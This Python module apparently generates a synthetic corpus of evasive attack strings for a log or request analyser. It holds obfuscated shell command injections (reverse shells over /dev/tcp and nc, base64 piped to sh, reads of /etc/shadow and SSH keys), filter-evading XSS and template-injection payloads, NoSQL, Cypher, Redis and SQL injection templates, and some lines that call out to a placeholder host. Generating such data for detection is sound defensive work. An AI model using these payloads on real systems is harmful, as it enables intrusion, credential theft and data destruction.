"""Attacks spelt so that a list of known words misses them: commands in pieces, scripts of signs, rare handlers, operators.

As in `bare_forms`, each is put together of parts.
"""

from __future__ import annotations

import json
from typing import Final

from weirlog.models.corpus.grammar import Chance, Rules
from weirlog.models.corpus.values import LOWER
from weirlog.models.request import JSON

_COMMANDS: Final = (
    "cat /etc/passwd", "cat /etc/group", "ls -la /home", "id", "whoami", "uname -a", "sleep 9", "head -n 3 /etc/shadow", "nc 203.0.113.9 4444", "wget 203.0.113.9/a", "tail /var/log/auth.log", "ifconfig", "hostname", "ping -c 3 198.51.100.7", "find / -perm -4000", "env", "ps aux", "sh",
)  # fmt: skip
_NOTHINGS: Final = ("''", '""', "\\", "$@", "${x}", "$()", "``", "$*", "${9}", "'", '"')
_BLANKS: Final = ("${IFS}", "$IFS", "$IFS$9", "${IFS%??}", "<", "\t", "$'\\t'", "${IFS:0:1}", "+", "%09", "$u ")
_ATOMS: Final = ("[]", "![]", "!![]", "+[]", "+!+[]", "!+[]+!+[]", "[][[]]", "(![]+[])", "(!![]+[])", "([][[]]+[])", "({}+[])", "[+[]]", "[+!+[]]", "[!+[]+!+[]]", "(+{}+[])", "~[]", "-~[]", "!{}")  # fmt: skip
_OPERATORS: Final = (
    "$ne", "$ne", "$gt", "$gt", "$regex", "$where", "$nin", "$exists", "$lt", "$in", "$not", "$or", "$nor", "$expr", "$mod", "$elemMatch",
)  # fmt: skip


def _twisted(chance: Chance) -> str:
    """Return a command as a shell still reads it: with empty quotes and parameters in its words, or without a space."""
    command = chance.pick(_COMMANDS)
    blank = chance.pick((" ", " ", *_BLANKS))
    if chance.maybe(0.15) and " " in command:
        return "{" + command.replace(" ", ",") + "}"
    if chance.maybe(0.15):
        return command.replace("a", "?").replace("s", "*").replace(" ", blank)
    nothing, share = chance.pick(_NOTHINGS), chance.pick((0.2, 0.5))

    def spelt(sign: str) -> str:
        if sign == " ":
            return blank
        if not sign.isalpha() or not chance.maybe(share):
            return sign
        return f"{nothing}{sign}{nothing}" if nothing in {"'", '"'} else sign + nothing

    return "".join(map(spelt, command))


def _script_of_signs(chance: Chance) -> str:
    """Return a piece of JavaScript without a letter, as encoders write it that need six signs."""
    pieces = [chance.pick(_ATOMS) for _ in range(chance.number(5, 40))]
    picked = [f"({piece}+[])[{chance.pick(_ATOMS)}]" if chance.maybe(0.3) else piece for piece in pieces]
    return "+".join(picked) + chance.pick(("", "()", "))()", "[+[]]"))


def _handler(chance: Chance) -> str:
    """Return an event handler's name: of a browser, or of one to come."""
    if chance.maybe(0.2):
        return "on" + chance.letters(LOWER, 4, 12)
    before = chance.pick(("", "", "before", "after", "got", "lost", "webkit", "moz", "touch", "pointer", "mouse", "drag", "key", "transition", "animation"))  # fmt: skip
    return "on" + before + chance.pick(
        ("copy", "cut", "paste", "print", "unload", "input", "start", "end", "cancel", "enter", "leave", "over", "out", "down", "up", "move", "press", "drop", "change", "invalid", "submit", "reset", "search", "select", "seeked", "play",
         "ended", "message", "storage", "popstate", "readystatechange", "visibilitychange", "contextmenu", "dblclick", "toggle", "capture", "match", "close", "waiting", "progress", "canplay", "focusin", "focusout", "show", "error", "repeat", "iteration")
    )  # fmt: skip


def _operand(chance: Chance, depth: int = 0) -> JSON:
    if depth < 2 and chance.maybe(0.2):
        return {chance.pick(_OPERATORS): _operand(chance, depth + 1)}
    word = chance.letters(LOWER, 1, 8)
    operands: tuple[JSON, ...] = (
        "", "", None, True, False, word, ".*", "^.", f"^{word}", f"^{word[:1]}.*", [], [""], [word, "admin"], {}, [{}], "1",
        "sleep(1000)", f"this.{word}", "1==1", "this.a == this.a", [None, ""], "i",
    )  # fmt: skip
    return chance.pick(operands)


def operators(chance: Chance) -> dict[str, JSON]:
    """Return an object of query operators, such as a query is built from when a value was expected."""
    return {chance.pick(_OPERATORS): _operand(chance) for _ in range(chance.pick((1, 1, 1, 2)))}


def _operators_written(chance: Chance) -> str:
    """Return operators as text: alone, behind a field's name, in a parameter's brackets, or after a quote."""
    name = chance.pick(
        ("user", "username", "password", "pass", "email", "role", "token", "_id", chance.letters(LOWER, 2, 8))
    )
    written = json.dumps(operators(chance), separators=chance.pick(((",", ":"), (", ", ": "))))
    operator = chance.pick(_OPERATORS)
    return chance.pick(
        (written, written, written.replace('"', "'"), json.dumps({name: operators(chance)}), json.dumps({name: operators(chance), "password": operators(chance)}), f"[{operator}]=", f"{name}[{operator}]={chance.letters(LOWER, 0, 5)}",
         f'", "{name}": {written}, "{name}": "', f"', {name}: {written}, x: '", json.dumps({operator: [{}, {name: name}]}), json.dumps([operators(chance)]), f"{name}[{operator}][0]=", f"{{{operator}:{chance.number(0, 9)}}}")
    )  # fmt: skip


SHELL_EVASIONS: Final[Rules] = {
    "twisted": _twisted,
    "here": ["$(<«file»)", "$(<«here_file»)", "<<<«word»", "| tee «here_file»", "| tee /var/www/html/«word».php", "| xxd -p «here_file»", "; mv «file» «file»", "; cp «here_file» «file»", "; echo «b»|base64 -d|sh", "|rev<<<'«rnd»'|sh", "; printf '«rnd»'|xxd -r -p|sh", "; . ./«file»", "; source <(«twisted»)", "; exec 5<>/dev/tcp/«ip»/«nn»", "; export «rnd»=«ip»;«twisted»", "| openssl enc -base64 -in «here_file»", "^& «twisted»", "; a=c;b=at;$a$b «here_file»", "; eval \"$«rnd»\"", ";sleep$IFS'«d»'", "& ping -n «d» «ip» &", "| sort «here_file»", "; exec sh"],
    "b": ["aWQ=", "d2hvYW1p", "bHMgLWxh", "Y2F0IC9ldGMvcGFzc3dk"],
    "here_file": ["/etc/passwd", "/etc/hostname", "/etc/group", "/etc/issue", "/proc/self/environ", "/etc/cron.d/«word»", "~/.ssh/id_rsa", "/etc/hosts"],
    "option": ["--output=«here_file»", "-o /var/www/html/«word».php", "--checkpoint-action=exec=sh «word».sh", "-oProxyCommand=«twisted»", "--upload-pack=«twisted»", "--use-compress-program=«twisted»", "--to-command=«twisted»", "-e«twisted»", "--post-file=«here_file»", "--exec=«twisted»", "-d @«here_file»", "--load-extension=/tmp/«word».so", "--config=«here_file»", "-K «here_file»", "--pager=«twisted»"],
    "evasion": ["«sep»«twisted»", "«sep»«twisted»«after»", "«before»«sep»«twisted»", "$(«twisted»)", "`«twisted»`", "«before»$(«twisted»)", "«before»«joint»«twisted»«joint»", "«before» «here»", "«before»«here»", "«here»", "«option»", "«word» «option»", "«before»|«twisted»|«twisted»"],
}  # fmt: skip

MARKUP_EVASIONS: Final[Rules] = {
    "signs": _script_of_signs,
    "handler": _handler,
    "call": ["«rnd»()", "x()", "a(«d»)", "«run»", "«run»", "«run»", "top.x()", "eval(name)", "eval(location.hash.slice(1))", "location=«rnd»", "eval(«rnd»)", "import(«rnd»)", "parent.x()", "opener.x()", "{«rnd»()}", "$«rnd»()", "throw(«rnd»)", "«signs»"],
    "holder": ["autofocus", "tabindex=0", "contenteditable", "draggable=true", "popover", "hidden", "open", "style=animation-name:x", "id=«rnd»", "src=«rnd»", "data=«rnd»", "type=search", "accesskey=x", "loop autoplay", "begin=0s"],
    "odd_markup": ["<«element»«sp»«handler»=«call»«sp»«holder»>", "<«element»«sp»«holder»«sp»«handler»=«call»>", "<«element»«sp»«handler»=«call»//", "\" «handler»=«call» «holder» x=\"", "' «handler»=«call» «holder» '", "<svg><set attributeName=«word» to=javascript:«call»>", "<svg><animate attributeName=href values=javascript:«call»>", "<a href=\"jav&#x09;ascript:«call»\">«word»", "<a href=\"java&Tab;script:«call»\">", "<a href=\"&#1;javascript:«call»\">", "<iframe srcdoc='<script>«call»</script>'>",
                   "<script>«signs»</script>", "«signs»", "\"><script>«signs»</script>", "javascript:«signs»", "<script>«rnd»=~[];«rnd»={___:++«rnd»,$$$$:(![]+\"\")[«rnd»]}</script>", "ng-init=constructor.constructor('«call»')()", "<«element» ng-«word»=constructor.constructor('«call»')()>", "{{[].«word».constructor('«call»')()}}", "<«element» ng-focus=$event.composedPath()|orderBy:'(z=alert)(«d»)'>", "<«element» v-html=\"_c.constructor('«call»')()\">", "<«element» @«word»=\"_c.constructor('«call»')()\">", "<«element» x-init=\"«run»\">", "<«element» hx-on:load=\"«run»\">",
                   "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=«call»&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=«call»>", "<noembed><img title=\"</noembed><img src onerror=«call»>\">", "<template><«element» «handler»=«call»></template>", "<object data=javascript:«call»>", "<embed code=//«host»/x.swf allowscriptaccess=always>", "`${«run»}`", "\";«rnd»=«call»;\"", "';document.forms[«d»].action='//«host»';'", "\"-«call»-\"", "'^«call»^'", "'in «call» in'", "\"in(«call»)in\"", "\\\";«call»//", "</script><svg/«handler»=«call»>"],
}  # fmt: skip

QUERY_EVASIONS: Final[Rules] = {
    "written": _operators_written,
    "graph": ["'}) return «d» union match (n) return n //", "' or «d»=«d» return n //", "'}) match (n) detach delete n //", "' return n union match (a:«noun») return a //", "«word»'}) with 1 as a call db.labels() yield label return label //", "') or true with «d» as x load csv from 'http://«host»/'+x as y return y //", "' and n.«noun» starts with '«d»' return n //", "'}) set n.«noun»='«word»' return n //", "' call apoc.load.json('http://«host»/') yield value return value //"],
    "search": ["*:* or «d»==«d» || true", "«noun»:[* TO *] OR _exists_:«noun»", "*) OR (*:*", "«word») OR «noun»:(*", "{\"script\":{\"source\":\"«noun».constructor.constructor('return this')()\"}}", "{\"query\":{\"match_all\":{}},\"script_fields\":{\"x\":{\"script\":\"java.lang.Math.class.forName('java.lang.Runtime')\"}}}", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://«host»/\"><a></a>'}", "{!func}«noun»&shards=http://«ip»/", "&wt=velocity&v.template=custom&v.template.custom=#set($x='')", "{\"selector\":{\"_id\":{\"$gt\":null}}}", "\r\nflushall\r\nset «word» «d»\r\n", "\r\nconfig set dir /var/www/html\r\n", "«word»\nSLAVEOF «ip» «nn»"],
    "script_query": ["'«nosql_joint»this.«noun»«nosql_compare»'«word»", "';return(«truth»);var «rnd»='", "'«nosql_joint»«truth»«nosql_joint»'", "\"«nosql_joint»«truth»//", "1;return «truth»", "«truth»«nosql_joint»sleep(«n»)", "';while(«truth»){};'", "function(){return «truth»}", "this.«noun».match(/^«rnd»/)", "';return 'a'=='a' && ''=='", "'+sleep(«n»)+'", "$where: function(){return «truth»}", "'«nosql_joint»Object.keys(this)[«d»].match('^.{0}«rnd»')«nosql_joint»'", "';db.«noun»s.«nosql_verb»();//", "');db.«noun»s.«nosql_verb»({});print('"],
    "nosql_joint": ["||", " || ", "&&", " && ", ";"],
    "nosql_compare": ["!=", "==", " != ", "<", ">=", "==="],
    "nosql_verb": ["drop", "find", "remove", "insert", "deleteMany", "updateMany"],
    "truth": ["true", "1", "1==1", "'a'=='a'", "!0", "this.«noun»!=''", "''==''", "«d»<«nn»", "''===''"],
    "quoted_sum": ["«before»'-«d»-'", "«before»'+«d»+'", "«before»'*«d»*'", "«before»'^«d»^'", "«before»'&«d»&'", "«before»'-«d»-'0", "'-(«d»)-'", "«before»\"-«d»-\"", "«before»'div'«d»", "«before»'%«d»='0", "«before»'<'«word»", "«before»'>'", "«before»'<=>'", "«before»'!='«word»", "'=''='", "«before»'is not null-- ", "«before»'||'", "«before»'<<'«d»"],
    "bare_test": ["«n» or «d»>«d»", "«n» or «nn»<«nn»", "«n»«s»or«s»«nn»>«d»", "«n» and «nn»<>«d»", "«n» || «d»<«nn»", "«n» or «d» in («d»,«d»)", "«n» and «d» not in («nn»)", "«n» or not «d»=«nn»", "«n» xor «d»>«nn»", "«n» or exists(select «d»)", "case when «same» then «wait» end", "case when «same» then «wait» else «d» end", "(case«s»when«s»«same»«s»then«s»«wait»«s»end)", "«n» div «d»«s»union«s»select«s»«nulls»", "«n»e«d»union select «nulls»", "{`«rnd»`/**/and «d»}union select «nulls»", "«n» union#\n«all»select «nulls»", "«n»/*!or*/«same»", "«n»;set @«rnd»=«d»;select @«rnd»", "«n» like «n»", "'«nn»'like'«nn»'", "«n» and(select«s»«d»)=«d»", "«out»«s»«logic»«s»«d»=any(select«s»«nulls»)«end»", "«out»«s»«logic»«s»json_length('{}')<«d»«end»", "«out»«s»«logic»«s»current_setting('is_superuser')='on'«end»", "«out»«s»«logic»«s»dbms_xmlgen.getxml('select user from dual')«s»is«s»not«s»null«end»"],
}  # fmt: skip
